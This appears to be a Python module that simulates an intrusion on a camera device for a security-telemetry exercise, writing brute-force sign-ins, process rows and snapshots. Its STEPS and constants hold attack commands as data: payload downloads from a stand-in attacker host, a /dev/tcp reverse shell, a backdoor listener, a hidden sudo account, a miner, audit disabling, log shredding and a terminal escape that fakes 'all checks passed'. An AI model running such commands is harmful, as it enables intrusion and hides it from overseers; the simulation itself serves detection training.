"""The intrusion on cam-0231, minute by minute after the first knock."""
# ruff: noqa: S104, S108 - what the intruder typed and the agent reports

from __future__ import annotations

from . import snapshots
from .clock import DAY, HOUR, MINUTE, Dice
from .events import connection, local_sign_in, process, sign_in
from .routine import Ends, ordinary_days, statistics
from .writer import DeviceLog, head

STORY_DEVICE = "cam-0231"
ATTACKER = "203.0.113.66"
#: A second address of the intruder, seen only on the back door.
ACCOMPLICE = "198.51.100.23"
MINING = (ATTACKER, 3333)
#: The first knock, seconds before now.
START = 6 * HOUR


def at(minute: int, second: int = 0) -> int:
    """A moment of the story as seconds before now."""
    return START - minute * MINUTE - second


SIGNED_IN = at(22, 31)
USER_ADDED, USER_RAISED = at(45, 4), at(62, 12)
BACKDOOR_OPEN = at(58, 20)
MINER_STARTED = at(80, 26)
#: Audit is off between these two, until the agent is started again and switches it on.
AUDIT_OFF, AUDIT_ON = at(68), at(76)
AUDIT_STOPPED = at(90, 2)

#: Names tried, three times each connection; user id "" where the device has no such user.
GUESSES = (
    ("root", "0"),
    ("(invalid user)", ""),
    ("operator", "1001"),
    ("(invalid user)", ""),
    ("root", "0"),
    ("camsvc", "998"),
    ("(unknown user)", ""),
)
CONNECTIONS = 144
TRIES = 3

_X = "/tmp/.x"
#: What the alerts quote of it.
FIND_SETUID = "find / -perm -4000 -type f"
FETCH = f"curl -fsSL http://{ATTACKER}:8080/k/dbus-hlp --create-dirs -o {_X}/dbus-hlp"
REVERSE_SHELL = f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
ADD_USER = 'useradd -m -s /bin/bash -c "сервис 保守 backup" svc-backup'
LISTEN = f"{_X}/dbus-hlp --listen 0.0.0.0:31337 --daemon"
LET_IN = "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT"
AUDIT_SWITCH = "auditctl -e 0"
MINE = f"{_X}/kworkerds -o {ATTACKER}:3333 -u plant7 -p x -B"
SHRED_LOGS = "shred -u /var/log/auth.log /var/log/wtmp"
CLEAR_HISTORY = "shred -u /home/operator/.bash_history /root/.bash_history"
STOP_AUDIT = "/bin/sh /usr/sbin/service auditd stop"
_SHELL, _ROOT_SHELL = 21877, 22015
#: minute, second, executable, command line, user id.
STEPS = (
    (22, 33, "/bin/bash", "-bash", "1001"),
    (24, 2, "/usr/bin/id", "id", "1001"),
    (24, 40, "/bin/cat", "cat /etc/passwd", "1001"),
    (25, 3, "/bin/ss", "ss -tulpn", "1001"),
    (26, 14, "/usr/bin/find", FIND_SETUID, "1001"),
    (27, 48, "/bin/bash", "bash -c cat /proc/cpuinfo | grep -c ^processor; free -m", "1001"),
    (28, 20, "/usr/bin/sudo", "sudo -n -l", "1001"),
    (29, 8, "/usr/bin/sudo", "sudo cat /etc/shadow", "1001"),
    (29, 9, "/bin/cat", "cat /etc/shadow", "0"),
    (33, 7, "/usr/bin/curl", FETCH, "1001"),
    (
        33,
        41,
        "/usr/bin/wget",
        f"wget -qO {_X}/kworkerds http://{ATTACKER}:8080/k/`uname -m`",
        "1001",
    ),
    (34, 15, "/bin/chmod", f"chmod +x {_X}/kworkerds {_X}/dbus-hlp", "1001"),
    (35, 12, f"{_X}/kworkerds", f"{_X}/kworkerds --version", "1001"),
    (38, 1, "/bin/bash", REVERSE_SHELL, "1001"),
    (38, 2, "/bin/sh", "/bin/sh -i", "1001"),
    (44, 50, "/usr/bin/sudo", "sudo /bin/sh", "1001"),
    (45, 4, "/usr/sbin/useradd", ADD_USER, "0"),
    (58, 20, f"{_X}/dbus-hlp", LISTEN, "0"),
    (58, 52, "/sbin/iptables", LET_IN, "0"),
    (62, 12, "/usr/sbin/usermod", "usermod -aG sudo svc-backup", "0"),
    (63, 5, "/usr/bin/crontab", "crontab -l", "0"),
    (67, 40, "/sbin/auditctl", "auditctl -s", "0"),
    (67, 58, "/sbin/auditctl", AUDIT_SWITCH, "0"),
    (76, 1, "/sbin/auditctl", "auditctl -e 1", "0"),
    (78, 44, "/bin/bash", "-bash", "1002"),
    (79, 30, "/usr/bin/sudo", "sudo /bin/sh", "1002"),
    (80, 25, "/usr/bin/nohup", f"nohup {MINE}", "0"),
    (80, 26, f"{_X}/kworkerds", MINE, "0"),
    # Meant for whoever watches the log in a terminal: up one line, wipe it, print something calm.
    (
        86,
        10,
        "/bin/echo",
        "echo \x1b[1A\x1b[2K\x1b[32mall checks passed\x1b[0m [/red][bold]OK[/bold] | tee /dev/tty0",
        "0",
    ),
    (87, 33, "/usr/bin/shred", SHRED_LOGS, "0"),
    (88, 2, "/usr/bin/shred", CLEAR_HISTORY, "0"),
    # A script: the kernel records the shell that runs it.
    (90, 0, "/bin/sh", STOP_AUDIT, "0"),
)

#: minute, second, executable, direction, remote end, user id.
CALLS = (
    (33, 8, "/usr/bin/curl", "Out", (ATTACKER, 8080), "1001"),
    (33, 42, "/usr/bin/wget", "Out", (ATTACKER, 8080), "1001"),
    (38, 2, "/bin/bash", "Out", (ATTACKER, 4444), "1001"),
    (59, 40, f"{_X}/dbus-hlp", "In", (ATTACKER, 52760), "0"),
    (64, 18, f"{_X}/dbus-hlp", "In", (ACCOMPLICE, 47112), "0"),
    (80, 28, f"{_X}/kworkerds", "Out", MINING, "0"),
    (82, 3, f"{_X}/kworkerds", "Out", MINING, "0"),
    (87, 50, f"{_X}/kworkerds", "Out", MINING, "0"),
)

_BACKUP_GROUP = ("svc-backup", "1002")
#: Where the device's failing checks begin, as on every other day.
_FIRST_CHECK = 1
_ACCOUNT_CHECK = head(
    {
        "Description": "Passwords expire",
        "CceId": "CCE-4092-3",
        "Result": "FAIL",
        "Error": "svc-backup: PASS_MAX_DAYS is 99999",
        "Severity": "Important",
    }
)
#: Sockets that come and go: seen from, until (seconds before now), near port, far end, pid.
_SOCKETS = (
    (at(22, 31), at(92), 22, (ATTACKER, 51544), 21870),
    (at(38, 2), at(72), 48122, (ATTACKER, 4444), 22002),
    (at(59, 40), at(85), 31337, (ATTACKER, 52760), 22410),
    (at(64, 18), 2 * HOUR, 31337, (ACCOMPLICE, 47112), 22410),
    (MINER_STARTED, 0, 40966, MINING, 23051),
)


def intrusion(log: DeviceLog, dice: Dice) -> None:
    """All rows of the device: ordinary days, the story, and its state each hour of the last day.

    Once audit is stopped the agent learns of no process, sign-in or connection any more: the
    miner shows only as a socket in the snapshots. That silence is part of the lesson.
    """
    ordinary_days(log, dice, Ends(audit=AUDIT_STOPPED, state=DAY))
    _knocking(log, dice)
    _inside(log)
    _state(log)


def _knocking(log: DeviceLog, dice: Dice) -> None:
    begin, length = at(0), at(0) - SIGNED_IN - 20
    for number in range(CONNECTIONS):
        user, user_id = GUESSES[number % len(GUESSES)]
        ago = begin - number * length // CONNECTIONS
        for attempt in range(TRIES):
            when = ago - attempt * 2 - dice.below(2)
            sign_in(log, when, user, user_id, ATTACKER, 9000 + number * 17, "Fail")
    sign_in(log, SIGNED_IN, "operator", "1001", ATTACKER, 21870, "Success")


def _inside(log: DeviceLog) -> None:
    for number, (minute, second, executable, line, user) in enumerate(STEPS):
        parent = _ROOT_SHELL if user == "0" else _SHELL
        process(log, at(minute, second), executable, line, user, 21900 + number * 31, parent)
    for minute, second, executable, direction, remote, user in CALLS:
        connection(log, at(minute, second), executable, direction, remote, 22002, user)
    local_sign_in(log, at(44, 49), "operator", "/usr/bin/sudo", 22014, "Success")
    sign_in(log, at(78, 41), "svc-backup", "1002", ATTACKER, 22960, "Success")
    local_sign_in(log, at(79, 29), "svc-backup", "/usr/bin/sudo", 22981, "Success")
    log.tell(
        "Diagnostic",
        AUDIT_ON,
        {
            "CorrelationId": "5f0b7a52-0c6e-4d0e-9c55-6f0c1d7a9e21",
            "Severity": "Warning",
            "Message": "kernel audit was off; switched on again",
            "ProcessId": 811,
            "ThreadId": 811,
        },
    )
    log.tell(
        "Diagnostic",
        AUDIT_STOPPED - 4 * MINUTE,
        {
            "CorrelationId": "8d7c0f3e-52b1-4c67-8a0b-2f3b6c1e7d10",
            "Severity": "Error",
            "Message": "ausearch: no audit events, exit status 1; will try again",
            "ProcessId": 811,
            "ThreadId": 814,
        },
    )


def _state(log: DeviceLog) -> None:
    for half in range(48):
        ago = 5 * MINUTE + half * HOUR // 2
        # Every half hour while it is interesting, every hour in the quiet part of the day.
        if half % 2 and ago > START + HOUR:
            continue
        log.write("ListeningPorts", ago, _ports_at(log, ago))
        if half % 2:
            continue
        log.write("LocalUsers", ago, _users_at(log, ago))
        opened = (31337,) if ago < BACKDOOR_OPEN else ()
        log.write("FirewallConfiguration", ago, snapshots.firewall(log.device, opened))
        used = 0.93 if ago < MINER_STARTED else 0.47
        log.write("SystemInformation", ago, (snapshots.system(log.device, used),))
    # One more look just after the story ends, with every socket of it still open.
    log.write("ListeningPorts", at(71), _ports_at(log, at(71)))
    statistics(log, 11 * MINUTE, sent=38, dropped=0)
    # The scan of every morning finds what it always finds; the next one finds the new account too.
    for ago, found in ((START + 5 * HOUR, ()), (95 * MINUTE, (_ACCOUNT_CHECK,))):
        log.write("OSBaseline", ago, [*snapshots.baseline(log.device, _FIRST_CHECK), *found])


def _ports_at(log: DeviceLog, ago: int) -> list[str]:
    heads = snapshots.ports(log.device)
    if ago < BACKDOOR_OPEN:
        heads.append(head(snapshots.port_payload("tcp", ("0.0.0.0", 31337), None, 22410)))
    heads += [
        head(snapshots.port_payload("tcp", (log.device.address, near), far, pid))
        for begin, end, near, far, pid in _SOCKETS
        if end < ago < begin
    ]
    if SIGNED_IN < ago < START:
        heads.append(
            head(snapshots.port_payload("tcp", (log.device.address, 22), (ATTACKER, 50991), 9017))
        )
    return heads


def _users_at(log: DeviceLog, ago: int) -> list[str]:
    heads = snapshots.users(log.device)
    if ago < USER_ADDED:
        groups = ((_BACKUP_GROUP), ("sudo", "27")) if ago < USER_RAISED else (_BACKUP_GROUP,)
        heads.append(head(snapshots.user_payload(("svc-backup", "1002", groups))))
    return heads
